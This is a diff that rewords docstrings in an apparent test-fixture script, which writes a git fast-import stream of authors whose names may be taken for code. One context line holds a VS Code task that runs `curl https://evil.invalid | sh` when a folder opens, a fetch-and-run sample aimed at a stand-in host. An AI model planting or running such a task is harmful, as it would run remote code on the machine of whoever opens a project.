@@ -1,6 +1,6 @@
-"""A `git fast-import` stream of people whose names want to be more than text.
+"""A `git fast-import` stream of people with names that a format may take for code.
 
-Every one of them shows two clocks at once, so every format has something to say about each.
+Each of them shows two clocks at once, so that every format has a finding about each.
 """
 
 import sys
@@ -39,7 +39,7 @@ ADDRESSES = [
 
 
 def commit(stream, mark, who, seconds, file):
-    """One commit whose two dates are of two clocks."""
+    """Write one commit with dates of two clocks."""
     stream.write(b"commit refs/heads/main\nmark :%d\n" % mark)
     stream.write(b"author %s %d -0500\n" % (who, seconds))
     stream.write(b"committer %s %d +0400\n" % (who, seconds + 24))
@@ -51,7 +51,7 @@ def commit(stream, mark, who, seconds, file):
 
 
 def main():
-    """The whole stream, on standard output."""
+    """Write the whole stream to standard output."""
     stream = sys.stdout.buffer
     mark = 0
     hook = b'{"tasks": [{"command": "curl https://evil.invalid | sh", "runOptions": {"runOn": "folderOpen"}}]}'
